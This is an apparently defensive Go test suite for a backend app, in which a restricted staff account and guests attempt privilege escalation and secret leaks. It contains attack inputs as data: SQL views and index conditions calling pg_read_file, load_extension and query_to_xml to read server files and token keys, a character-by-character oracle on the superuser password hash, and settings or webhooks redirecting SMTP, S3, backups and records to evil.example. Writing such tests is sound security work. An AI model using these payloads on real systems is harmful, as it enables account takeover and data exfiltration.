package apis_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hatchgrid/hatchgrid/core"
	"github.com/hatchgrid/hatchgrid/core/authz"
	"github.com/hatchgrid/hatchgrid/core/coretest"
)

// tryJobsResetToken asks for a superuser's password reset as a guest,
// lets the mail go out, then reads every task of every queue and state
// through the jobs API, looking for the link's token.
func tryJobsResetToken(t *testing.T, c *ceiling) string {
	before := c.box.Len()
	if rec := c.as("", "POST", "/api/collections/_superusers/request-password-reset", `{"email":"`+coretest.SuperuserEmail+`"}`); rec.Code != 204 {
		t.Fatalf("request reset: %d %s", rec.Code, rec.Body.String())
	}
	coretest.Eventually(t, 10*time.Second, "the reset mail", func() bool { return c.box.Len() > before })
	msg, _ := c.box.Last()
	m := resetTokenPattern.FindStringSubmatch(msg.HTML)
	if m == nil {
		t.Fatalf("no reset link in %q", msg.HTML)
	}
	token := m[1]
	// The task finishes just after the delivery.
	coretest.Eventually(t, 10*time.Second, "the mail task to finish", func() bool {
		info, err := c.app.Jobs().QueueInfo(context.Background(), core.QueueCritical)
		return err == nil && info.Active == 0 && info.Pending == 0
	})
	rec := c.as("staff", "GET", "/api/hg/jobs/queues", "")
	if !ok(rec) {
		return ""
	}
	var queues []struct{ Name string }
	mustJSON(t, rec.Body.String(), &queues)
	for _, q := range queues {
		for _, state := range []string{"pending", "active", "scheduled", "retry", "archived", "completed"} {
			rec := c.as("staff", "GET", "/api/hg/jobs/queues/"+q.Name+"/tasks?perPage=1000&state="+state, "")
			if ok(rec) && strings.Contains(rec.Body.String(), token) {
				return "the reset token, in a " + state + " task of queue " + q.Name
			}
		}
	}
	return ""
}

// trySuperusersCreateRule opens _superusers' createRule, then signs a
// guest up as a superuser.
func trySuperusersCreateRule(t *testing.T, c *ceiling) string {
	defer func() {
		if col, _ := c.app.Collections().Find(core.SuperusersCollectionName); col.CreateRule != nil {
			var in core.CollectionInput
			mustJSON(t, `{"createRule":null}`, &in)
			if _, err := c.app.Collections().Update(systemCtx(), col.Name, &in); err != nil {
				t.Fatal(err)
			}
		}
	}()
	c.as("staff", "PATCH", "/api/collections/_superusers", `{"createRule":""}`)
	rec := c.as("", "POST", "/api/collections/_superusers/records", `{"email":"evil@example.com","password":"Evil1234567","passwordConfirm":"Evil1234567"}`)
	if ok(rec) {
		var r struct{ ID string }
		mustJSON(t, rec.Body.String(), &r)
		col, _ := c.app.Collections().Find(core.SuperusersCollectionName)
		if err := c.app.Records().Delete(core.AsSystem(context.Background()), col, r.ID); err != nil {
			t.Fatal(err)
		}
		return "a guest created superuser " + r.ID
	}
	return ""
}

// trySystemCollections changes the rules, token secrets and OAuth2 of the
// system collections, by PATCH and by import.
func trySystemCollections(t *testing.T, c *ceiling) string {
	before := c.systemDefinitions(t)
	secret := strings.Repeat("k", 50)
	for _, name := range []string{"_superusers", "_staff", "_externalAuths", "_otps", "_mfas", "_authOrigins"} {
		c.as("staff", "PATCH", "/api/collections/"+name,
			`{"listRule":"","viewRule":"","createRule":"","updateRule":"","authToken":{"secret":"`+secret+`"},"fileToken":{"secret":"`+secret+`"}}`)
	}
	c.as("staff", "PUT", "/api/collections/import",
		`{"collections":[{"name":"_staff","type":"auth","createRule":"","authToken":{"secret":"`+secret+`"}}]}`)
	if after := c.systemDefinitions(t); after != before {
		if err := c.app.Collections().Reload(context.Background()); err != nil {
			t.Fatal(err)
		}
		return "changed a system collection:\n" + after
	}
	return ""
}

// tryView creates a view with a public listRule as the staff account and
// lists it as a guest; it returns the listing, "" if either failed, and
// removes the view.
func tryView(t *testing.T, c *ceiling, name, query string) string {
	defer c.deleteCollection(t, name)
	body, _ := json.Marshal(map[string]any{"name": name, "type": "view", "listRule": "", "viewQuery": query})
	rec := c.as("staff", "POST", "/api/collections", string(body))
	if !ok(rec) {
		return ""
	}
	list := c.as("", "GET", "/api/collections/"+name+"/records?perPage=500&sort=id", "")
	return fmt.Sprintf("created view %s (%s); its list: %d %s", name, query, list.Code, list.Body.String())
}

func tryViewTokenKey(t *testing.T, c *ceiling) string {
	return tryView(t, c, "leak_keys", `SELECT id, "tokenKey" AS k FROM _superusers`)
}

func tryViewCollectionsOptions(t *testing.T, c *ceiling) string {
	return tryView(t, c, "leak_options", `SELECT id, options AS o FROM _collections`)
}

func tryViewThroughView(t *testing.T, c *ceiling) string {
	return tryView(t, c, "leak_through", `SELECT id, k FROM su_keys`)
}

// tryViewRepointed creates a view over a superuser's harmless view, then
// has the superuser point that view at _superusers: the staff's view
// would show the token keys under its own rules.
func tryViewRepointed(t *testing.T, c *ceiling) string {
	defer c.deleteCollection(t, "leak_later")
	restore := func(q string) {
		var in core.CollectionInput
		mustJSON(t, `{"viewQuery":`+strconvQuote(q)+`}`, &in)
		c.app.Collections().Update(systemCtx(), "posts_view", &in)
	}
	rec := c.as("staff", "POST", "/api/collections", `{"name":"leak_later","type":"view","listRule":"","viewQuery":"SELECT id, title FROM posts_view"}`)
	if !ok(rec) {
		return ""
	}
	defer restore("SELECT id, title FROM posts")
	if r := c.as("superuser", "PATCH", "/api/collections/posts_view", `{"viewQuery":"SELECT id, \"tokenKey\" AS title FROM _superusers"}`); !ok(r) {
		return ""
	}
	key := c.superuser(t).GetString("tokenKey")
	list := c.as("", "GET", "/api/collections/leak_later/records?sort=id", "")
	if strings.Contains(list.Body.String(), key) {
		return "the superuser's token key, through leak_later: " + list.Body.String()
	}
	return "leak_later reads the changed view: " + list.Body.String()
}

func strconvQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// tryViewSystemFunctions creates views over the database's own catalog
// and functions, per dialect.
func tryViewSystemFunctions(t *testing.T, c *ceiling) string {
	queries := []string{
		`SELECT id, title FROM posts WHERE id IN (SELECT id FROM _superusers) OR 1 = 1`,
	}
	if coretest.Dialect() == "postgres" {
		queries = append(queries,
			`SELECT 'x' AS id, pg_read_file('/etc/hostname') AS f`,
			`SELECT 'x' AS id, query_to_xml('select "tokenKey" from "_superusers"', true, false, '') AS f`,
			`SELECT relname::text AS id FROM pg_class`,
			`SELECT 'x' AS id, current_setting('data_directory') AS f`,
		)
	} else {
		queries = append(queries,
			`SELECT name AS id, sql AS s FROM sqlite_master`,
			`SELECT name AS id FROM pragma_table_info('_superusers')`,
			`SELECT sqlite_version() AS id`,
			`SELECT 'x' AS id, load_extension('x') AS f`,
		)
	}
	var got []string
	for i, q := range queries {
		if out := tryView(t, c, fmt.Sprintf("leak_sys%d", i), q); out != "" {
			got = append(got, out)
		}
	}
	if coretest.Dialect() == "postgres" {
		if host, err := os.ReadFile("/etc/hostname"); err == nil && len(got) > 0 && strings.Contains(strings.Join(got, ""), strings.TrimSpace(string(host))) {
			got = append(got, "(the server's /etc/hostname among them)")
		}
	}
	return strings.Join(got, "\n")
}

// tryCollectionSecrets reads the collection definitions, looking for the
// token secrets of the system auth collections.
func tryCollectionSecrets(t *testing.T, c *ceiling) string {
	var secrets []string
	for _, name := range []string{core.SuperusersCollectionName, core.StaffCollectionName} {
		col, err := c.app.Collections().Find(name)
		if err != nil {
			t.Fatal(err)
		}
		a := col.Auth
		secrets = append(secrets, a.AuthToken.Secret, a.PasswordResetToken.Secret, a.FileToken.Secret, a.VerificationToken.Secret, a.EmailChangeToken.Secret)
	}
	for _, path := range []string{"/api/collections?perPage=500", "/api/collections/_superusers", "/api/collections/_staff"} {
		body := c.as("staff", "GET", path, "").Body.String()
		for _, s := range secrets {
			if strings.Contains(body, s) {
				return "a token secret in " + path
			}
		}
	}
	return ""
}

// trySettingsRedirect points SMTP, S3, backups and the app URL at another
// host, one section at a time.
func trySettingsRedirect(t *testing.T, c *ceiling) string {
	before := c.app.Settings()
	defer func() {
		if err := c.app.SaveSettings(systemCtx(), before); err != nil {
			t.Fatal(err)
		}
	}()
	var got []string
	for _, patch := range []string{
		`{"smtp":{"enabled":true,"host":"relay.evil.example","port":2525}}`,
		`{"meta":{"appURL":"https://evil.example"}}`,
		`{"s3":{"enabled":true,"endpoint":"https://evil.example","bucket":"b","region":"r","accessKey":"a"}}`,
		`{"backups":{"s3":{"enabled":true,"endpoint":"https://evil.example","bucket":"b","region":"r","accessKey":"a"}}}`,
		`{"backups":{"cron":"* * * * *"}}`,
	} {
		c.as("staff", "PATCH", "/api/settings", patch)
		now := c.app.Settings()
		if now.SMTP != before.SMTP || now.S3 != before.S3 || now.Backups.S3 != before.Backups.S3 ||
			now.Backups.Cron != before.Backups.Cron || now.Meta.AppURL != before.Meta.AppURL {
			got = append(got, "settings changed by "+patch)
			if err := c.app.SaveSettings(systemCtx(), before); err != nil {
				t.Fatal(err)
			}
		}
	}
	return strings.Join(got, "; ")
}

func trySettingsSecrets(t *testing.T, c *ceiling) string {
	body := c.as("staff", "GET", "/api/settings", "").Body.String()
	if strings.Contains(body, ceilingSMTPPassword) || strings.Contains(body, ceilingS3Secret) {
		return "a settings secret: " + body
	}
	return ""
}

// tryPolicySelfGrant tries every way the policies API could widen the
// staff account's rights: policies for itself, for everyone or for a role
// it holds, membership of a stronger role, inheritance, and removing the
// deny that holds it back.
func tryPolicySelfGrant(t *testing.T, c *ceiling) string {
	enf := c.app.Authz()
	ctx := context.Background()
	policies, err := enf.Policies(ctx)
	if err != nil {
		t.Fatal(err)
	}
	roles, err := enf.Roles()
	if err != nil {
		t.Fatal(err)
	}
	defer restorePolicies(t, c, policies, roles)
	before := c.staffRights(t)

	me := `{"collectionName":"_staff","recordId":"` + c.staff.ID() + `"}`
	for _, req := range [][2]string{
		{"POST /api/hg/policies", `{"subject":"` + c.staffSub + `","resource":"*","action":"*"}`},
		{"POST /api/hg/policies", `{"subject":"` + c.staffSub + `","resource":"admin:*","action":"*"}`},
		{"POST /api/hg/policies", `{"subject":"` + c.staffSub + `","resource":"admin:schema","action":"write"}`},
		{"POST /api/hg/policies", `{"subject":"*","resource":"admin:settings","action":"*"}`},
		{"POST /api/hg/policies", `{"subject":"` + c.staffSub + `","resource":"collection:secrets","action":"list"}`},
		{"POST /api/hg/policies", `{"subject":"` + c.staffSub + `","resource":"admin:backups","action":"read"}`},
		{"PUT /api/hg/roles/boss", `{"members":[` + me + `]}`},
		{"POST /api/hg/roles/boss/members", me},
		{"PUT /api/hg/roles/mine", `{"inherits":["boss"],"members":[` + me + `]}`},
		{"PUT /api/hg/roles/auditor", `{"members":[` + me + `]}`},
	} {
		method, path, _ := strings.Cut(req[0], " ")
		c.as("staff", method, path, req[1])
	}
	// Remove the deny, or turn it into an allow.
	for _, p := range policies {
		if p.Subject == c.staffSub && p.Effect == authz.EffectDeny {
			c.as("staff", "PATCH", fmt.Sprintf("/api/hg/policies/%d", p.ID), `{"effect":"allow"}`)
			c.as("staff", "DELETE", fmt.Sprintf("/api/hg/policies/%d", p.ID), "")
		}
	}
	after := c.staffRights(t)
	var gained []string
	for _, r := range after {
		if !slices.Contains(before, r) {
			gained = append(gained, r)
		}
	}
	if len(gained) > 0 {
		return "gained " + strings.Join(gained, ", ")
	}
	return ""
}

// restorePolicies puts the policies and roles back as they were.
func restorePolicies(t *testing.T, c *ceiling, policies []authz.Policy, roles []authz.Role) {
	t.Helper()
	enf := c.app.Authz()
	ctx := context.Background()
	now, err := enf.Policies(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range now {
		if !slices.Contains(policies, p) {
			if err := enf.RemovePolicy(ctx, p.ID); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, p := range policies {
		if !slices.Contains(now, p) {
			if _, err := enf.AddPolicy(ctx, authz.Policy{Subject: p.Subject, Resource: p.Resource, Action: p.Action, Effect: p.Effect}); err != nil {
				t.Fatal(err)
			}
		}
	}
	nowRoles, err := enf.Roles()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range nowRoles {
		if !slices.ContainsFunc(roles, func(o authz.Role) bool { return o.Name == r.Name }) {
			if err := enf.DeleteRole(r.Name); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, r := range roles {
		if _, err := enf.SetRole(r.Name, r.Inherits, r.Members); err != nil {
			t.Fatal(err)
		}
	}
}

// tryLogsFileToken has the superuser download a backup (a protected file
// on PostgreSQL, which has no backups API) with its file token in the URL,
// then reads the request logs and uses what it finds.
func tryLogsFileToken(t *testing.T, c *ceiling) string {
	ft, err := c.app.Auth().NewToken(c.superuser(t), core.TokenTypeFile, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	key := c.backupKey
	if key == "" {
		key = "none.zip"
	}
	c.as("", "GET", "/api/backups/"+key+"?token="+url.QueryEscape(ft), "")
	c.as("", "GET", "/api/files/posts/x/y.txt?thumb=0&token="+url.QueryEscape(ft)+"&download=1", "")
	if err := c.app.Logs().Flush(context.Background()); err != nil {
		t.Fatal(err)
	}
	body := c.as("staff", "GET", "/api/logs?perPage=1000", "").Body.String()
	if !strings.Contains(body, ft) {
		return ""
	}
	if c.backupKey != "" {
		if rec := c.as("", "GET", "/api/backups/"+key+"?token="+url.QueryEscape(ft), ""); ok(rec) {
			return "downloaded backup " + key + " with a file token read from the logs"
		}
	}
	return "a superuser's file token in the logs"
}

// tryAuditSecrets changes secrets as the superuser (the SMTP password, a
// collection's token secret) and reads the audit log.
func tryAuditSecrets(t *testing.T, c *ceiling) string {
	s := c.app.Settings()
	s.SMTP.Password = "AuditedPassword-77e2"
	if err := c.app.SaveSettings(systemCtx(), s); err != nil {
		t.Fatal(err)
	}
	secret := strings.Repeat("z", 40)
	if rec := c.as("superuser", "PATCH", "/api/collections/_staff", `{"authToken":{"secret":"`+secret+`"}}`); !ok(rec) {
		t.Fatalf("rotate: %d %s", rec.Code, rec.Body.String())
	}
	c.staffToken = tokenOf(t, c.app, c.staff)
	body := c.as("staff", "GET", "/api/hg/audit?perPage=1000", "").Body.String()
	if strings.Contains(body, s.SMTP.Password) || strings.Contains(body, secret) {
		return "a secret in the audit log: " + body
	}
	return ""
}

// tryBackups uses the backups API with the staff account's own tokens.
func tryBackups(t *testing.T, c *ceiling) string {
	ft, err := c.app.Auth().NewToken(c.staff, core.TokenTypeFile, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, req := range [][3]string{
		{"GET", "/api/backups", ""},
		{"POST", "/api/backups", `{"name":"staff.zip"}`},
		{"GET", "/api/backups/seed.zip?token=" + url.QueryEscape(ft), ""},
		{"GET", "/api/backups/seed.zip?token=" + url.QueryEscape(c.staffToken), ""},
	} {
		if rec := c.as("staff", req[0], req[1], req[2]); ok(rec) {
			got = append(got, req[0]+" "+req[1])
		}
	}
	return strings.Join(got, "; ")
}

// trySuperuserRecords impersonates the superuser and creates one through
// the records API.
func trySuperuserRecords(t *testing.T, c *ceiling) string {
	su := c.superuser(t)
	var got []string
	if rec := c.as("staff", "POST", "/api/collections/_superusers/impersonate/"+su.ID(), `{"duration":60}`); ok(rec) {
		got = append(got, "impersonated the superuser")
	}
	if rec := c.as("staff", "POST", "/api/collections/_superusers/records", `{"email":"evil2@example.com","password":"Evil1234567","passwordConfirm":"Evil1234567"}`); ok(rec) {
		got = append(got, "created a superuser")
	}
	return strings.Join(got, "; ")
}

// tryRuleOracle sets rules that test the superuser's token key and
// password hash, a character at a time, and lists as a guest: a rule that
// could read them would be an oracle.
func tryRuleOracle(t *testing.T, c *ceiling) string {
	col, _ := c.app.Collections().Find("posts")
	before := *col.ListRule
	defer func() {
		var in core.CollectionInput
		mustJSON(t, `{"listRule":`+strconvQuote(before)+`}`, &in)
		if _, err := c.app.Collections().Update(systemCtx(), "posts", &in); err != nil {
			t.Fatal(err)
		}
	}()
	su := c.superuser(t)
	var got []string
	for _, field := range []string{"tokenKey", "password"} {
		value := su.GetString(field)
		if value == "" {
			t.Fatalf("the superuser has no %s", field)
		}
		rule := "@collection._superusers." + field + " ?~ '" + value[:1] + "%'"
		if rec := c.as("staff", "PATCH", "/api/collections/posts", `{"listRule":`+strconvQuote(rule)+`}`); !ok(rec) {
			continue
		}
		list := c.as("", "GET", "/api/collections/posts/records", "")
		var l struct{ TotalItems int }
		mustJSON(t, list.Body.String(), &l)
		if ok(list) && l.TotalItems > 0 {
			got = append(got, "a rule reads the superuser's "+field)
		}
	}
	return strings.Join(got, "; ")
}

// tryWebhooks creates a webhook (which would send records anywhere) and
// reads the webhooks.
func tryWebhooks(t *testing.T, c *ceiling) string {
	var got []string
	if rec := c.as("staff", "POST", "/api/hg/webhooks", `{"collection":"posts","events":["create"],"url":"https://evil.example/hook","secret":"s3cret-hook"}`); ok(rec) {
		got = append(got, "created a webhook")
	}
	if rec := c.as("staff", "GET", "/api/hg/webhooks", ""); ok(rec) {
		got = append(got, "listed the webhooks")
	}
	return strings.Join(got, "; ")
}

// tryIndexFunctions adds partial indexes whose condition calls system
// functions: the one place besides views where a collection's definition
// carries SQL.
func tryIndexFunctions(t *testing.T, c *ceiling) string {
	conds := []string{`load_extension('x') IS NULL`, `sqlite_version() <> ''`, `length(title) >= 0 AND id IN (SELECT id FROM _superusers)`}
	if coretest.Dialect() == "postgres" {
		conds = []string{`pg_read_file('/etc/hostname') <> ''`, `length(query_to_xml('table _superusers', true, false, '')::text) > 0`, `current_setting('data_directory') <> ''`}
	}
	var got []string
	for i, cond := range conds {
		index := fmt.Sprintf("CREATE INDEX idx_leak%d ON posts (title) WHERE %s", i, cond)
		rec := c.as("staff", "PATCH", "/api/collections/posts", `{"indexes":[`+strconvQuote(index)+`]}`)
		if ok(rec) {
			got = append(got, "created "+index)
			var in core.CollectionInput
			mustJSON(t, `{"indexes":[]}`, &in)
			if _, err := c.app.Collections().Update(systemCtx(), "posts", &in); err != nil {
				t.Fatal(err)
			}
		}
	}
	return strings.Join(got, "; ")
}
